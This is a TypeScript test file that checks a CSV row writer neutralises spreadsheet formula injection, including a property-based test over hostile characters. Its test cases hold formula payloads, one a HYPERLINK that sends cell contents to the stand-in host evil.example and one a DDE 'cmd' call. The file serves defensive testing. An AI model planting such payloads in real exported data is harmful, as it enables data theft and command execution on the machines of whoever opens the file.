import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvRow } from '../../src/render/batch-csv.js';

/** The cells of one written row, as an RFC 4180 reader gets them. */
const cellsOf = (row: string) => (parse(row) as string[][])[0];

/**
 * The pieces of a row as a spreadsheet with another separator sees them: split
 * at any , ; tab or line break, quotes or not, each piece's leading spaces and
 * quotes dropped.
 */
const naivePieces = (row: string) => row.split(/[,;\t\r\n]/).map((piece) => piece.replace(/^[\s"\0]*/, ''));
const FORMULA = /^[=+\-@]/;

describe('csvRow: text from data never starts a formula (OWASP "CSV Injection")', () => {
  // [case, text cell, what the spreadsheet reads]
  const cases: [string, string, string][] = [
    ['=', '=HYPERLINK("http://evil.example/?"&A1,"Click")', `'=HYPERLINK("http://evil.example/?"&A1,"Click")`],
    ['+', '+1+cmd|" /C calc"!A0', `'+1+cmd|" /C calc"!A0`],
    ['-', '-2+3', "'-2+3"],
    ['@', '@SUM(1,2)', "'@SUM(1,2)"],
    ['tab then =', '\t=1+1', "'\t'=1+1"],
    ['tab alone', '\tAcme', "'\tAcme"],
    ['CR then =', '\r=1+1', "'\r'=1+1"],
    ['NUL', '\0Acme', "'\0Acme"],
    ['spaces then =', '   =1+1', "'   =1+1"],
    ['a quote then =', '"=1+1', `'"=1+1`],
    ['no-break space then @', '\u00a0@A1', "'\u00a0@A1"],
    ['after a ;', 'Acme;=1+1', "Acme;'=1+1"],
    ['after a comma and spaces', 'Acme,  @A1', "Acme,'  @A1"],
    ['after a line break and a quote', 'Acme\n"=1+1"', `Acme\n'"=1+1"`],
    ['plain name', 'Lakeview Bakery', 'Lakeview Bakery'],
    ['comma and quote', 'Vertex "Media", Ltd', 'Vertex "Media", Ltd'],
    ['= inside a word', 'A=B', 'A=B'],
    ['hyphen inside a name', 'Jean-Luc', 'Jean-Luc'],
    ['hyphen after a space', 'Acme - Ltd', 'Acme - Ltd'],
  ];
  it.each(cases)('%s', (_, text, read) => {
    expect(cellsOf(csvRow([2, text, 'fix']))).toEqual(['2', read, 'fix']);
  });

  it('numbers we write stay bare numbers, a negative one too: only text is neutralised', () => {
    expect(csvRow([2, 'Acme', 8, 0.04, -1])).toBe('2,Acme,8,0.04,-1\n');
    expect(csvRow(['-1'])).toBe(`"'-1"\n`);
  });

  it('any text: three cells for an RFC 4180 reader, and no piece starts a formula for a reader that splits at , ; tab or line breaks', () => {
    const hostile = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '\0', ' ', '\u00a0', '"', ',', ';', "'", 'A', 'é') });
    fc.assert(
      fc.property(hostile, (text) => {
        const row = csvRow([2, text, 'fix']);
        expect(cellsOf(row)).toHaveLength(3);
        expect(naivePieces(row).filter((piece) => FORMULA.test(piece))).toEqual([]);
      }),
      { numRuns: 2000 },
    );
  });

  it('is linear in the cell: a long run of separators and spaces costs no more than its length', () => {
    const long = `${';'.repeat(200_000)}${' '.repeat(200_000)}x`;
    const started = performance.now();
    csvRow([2, long, `\n${' '.repeat(200_000)}\n`.repeat(2)]);
    expect(performance.now() - started).toBeLessThan(1000);
  });
});
